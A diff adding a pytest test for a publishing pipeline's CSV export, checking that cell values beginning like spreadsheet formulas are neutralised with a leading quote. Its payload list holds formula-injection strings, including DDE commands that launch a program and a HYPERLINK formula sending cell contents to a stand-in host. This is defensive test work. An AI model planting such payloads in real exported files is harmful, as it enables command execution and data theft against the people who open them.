@@ -11,6 +11,8 @@ from typing import Any
 import duckdb
 
 from pipelines.publish import export
+from pipelines.publish.files import FORMULA, files
+from tests.publish.conftest import ABOUT
 
 VINTAGE = "2026-02-03-0a1b2c3d"
 
@@ -33,6 +35,33 @@ def test_no_text_cell_is_a_formula_and_every_number_stays_a_number(published: Pa
     assert found["g"]["title"] == "'-2 levels"
     assert found["c"]["title"] == 'Engineer, "AI"'
     assert float(found["a"]["points"]) == -1.5
+
+
+PAYLOADS = (
+    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "-1.5", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
+    "＝1+1", "＋1", "－1", "＠SUM(1)",
+    '=HYPERLINK("https://x.example/?"&A1,"click")', '"=1+1', ',=1+1', 'a","=1+1', 'a\n=1+1', "a\r\n=1+1",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+)  # fmt: skip
+
+
+def test_no_payload_in_a_title_or_an_employer_makes_a_cell_that_begins_as_a_formula(tmp_path: Path) -> None:
+    with duckdb.connect(str(tmp_path / "p.duckdb")) as connection:
+        connection.execute("create schema published; create schema trends")
+        connection.execute(
+            "create table published.t (id integer, title varchar, employer varchar, points decimal(18, 6), n bigint)"
+        )
+        given = [(number, payload, payload, -1.5, -2) for number, payload in enumerate(PAYLOADS)]
+        connection.executemany("insert into published.t values (?, ?, ?, ?, ?)", given)
+    files(tmp_path / "p.duckdb", tmp_path, ABOUT)
+    found = cells(tmp_path / "csv" / "t.csv")
+    assert [int(row["id"]) for row in found] == list(range(len(PAYLOADS)))
+    for row, payload in zip(found, PAYLOADS, strict=True):
+        assert row["title"] == row["employer"] == ("'" + payload if payload[0] in FORMULA else payload)
+        assert (row["points"], row["n"]) == ("-1.500000", "-2")
+    with duckdb.connect() as connection:
+        kept = connection.execute(f"select title from '{tmp_path}/parquet/t.parquet' order by id").fetchall()
+    assert [title for (title,) in kept] == list(PAYLOADS)
 
 
 def test_csv_is_utf8_with_lf_iso_dates_and_empty_for_missing(published: Path) -> None:
